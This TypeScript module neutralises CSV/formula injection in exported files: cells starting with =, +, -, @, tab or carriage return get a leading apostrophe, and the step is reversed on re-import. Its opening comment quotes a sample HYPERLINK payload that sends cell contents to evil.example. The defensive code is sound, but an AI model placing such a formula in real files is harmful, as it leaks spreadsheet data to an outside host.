// Every CSV the app writes goes through here, so that no cell can run as a spreadsheet formula when the file is
// opened in Excel, LibreOffice or Google Sheets (CSV/formula injection): a user-written title such as
// `=HYPERLINK("http://evil.example/?"&A1,"click")` would otherwise be evaluated on the reader's machine.
import { stringify, type Options } from "csv-stringify/sync";

/** What a spreadsheet reads as the start of a formula (OWASP's list): = + - @, tab and carriage return. */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A text cell a spreadsheet would evaluate gets a leading apostrophe (OWASP's advice): the sheet then shows the
 * text as written. Numbers are left alone, so a negative year or count stays a number.
 */
export function neutraliseCsvCell(cell: unknown): unknown {
  return typeof cell === "string" && FORMULA_START.test(cell) ? `'${cell}` : cell;
}

/** Undoes neutraliseCsvCell for a file the app wrote itself and reads back (codebook import). */
export function restoreNeutralisedCsvCell(cell: string): string {
  return cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell;
}

/**
 * Rows to CSV text with every cell neutralised. `bom` (the default) makes Excel read the file as UTF-8, so
 * Chinese is not garbled when opened by double-click.
 */
export function csvDocument(rows: readonly (readonly unknown[])[], options: Options = {}): string {
  return stringify(
    rows.map((row) => row.map(neutraliseCsvCell)),
    { bom: true, ...options },
  );
}
